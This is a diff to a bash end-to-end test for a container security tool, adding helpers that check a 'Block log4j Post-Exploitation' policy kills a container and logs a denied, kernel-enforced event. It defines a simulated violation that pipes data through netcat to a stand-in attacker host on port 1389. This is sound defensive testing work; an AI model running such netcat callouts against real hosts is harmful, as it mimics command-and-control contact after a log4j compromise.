@@ -18,6 +18,8 @@ source "$E2E_DIR/../harness/service.sh"
 
 export C2_RULE="Malicious C2 IPs or domains exploiting log4j"
 export BLOCK_POLICY="Block log4j Post-Exploitation"
+# What fulfils the rule once, and goes on.
+export VIOLATION="echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
 
 # For setup_file.
 story_open() {
@@ -77,11 +79,20 @@ contained() {
 
 # contained_detached ID COMMAND...: the same, and leaves it running.
 contained_detached() {
-  local id=$1
-  bundle_make "$SCRATCH/bundle-$id" "$ROOTFS" "$@"
-  bailiff_runc run --detach --bundle "$SCRATCH/bundle-$id" "$id" \
-    </dev/null >"$SCRATCH/$id.out" 2>&1 3>&-
+  bundle_make "$SCRATCH/bundle-$1" "$ROOTFS" "$@"
+  started bailiff_runc "$1"
 }
+# started RUNC ID: has it run the bundle of that id, which goes on.
+started() {
+  "$1" run --detach --bundle "$SCRATCH/bundle-$2" "$2" \
+    </dev/null >"$SCRATCH/$2.out" 2>&1 3>&-
+}
+
+# violates ID: a container that violates the rule once and goes on.
+violates() { contained_detached "$1" sh -c "$VIOLATION"; }
+
+# runtime_state ID STATE
+runtime_state() { [[ $(plain_runc state "$1" | jq -r .status) == "$2" ]]; }
 
 # What a container says that connects to ADDRESS: "reached", or nc's error.
 # shellcheck disable=SC2016 # the container's shell expands
@@ -139,6 +150,18 @@ nothing_left_of() {
     printf 'left: %s\n' "${found[@]}"
     return 1
   }
+}
+
+# Under KILL_POLICY.
+exploited_is_killed() {
+  run -137 contained exploited sh -c "$VIOLATION"
+  (($(attacker_packets) == 0))
+  event "$C2_RULE" ".bailiff.policy == \"$BLOCK_POLICY\"
+    and .bailiff.verdict == \"denied\" and .bailiff.outcome == \"killed\"
+    and .bailiff.enforcement == \"kernel\"
+    and .bailiff.container.id == \"exploited\"
+    and .bailiff.container.image == \"registry.example/shop:1.4\""
+  nothing_left_of exploited
 }
 
 # event RULE [JQ-CONDITION]: waits for such an event.
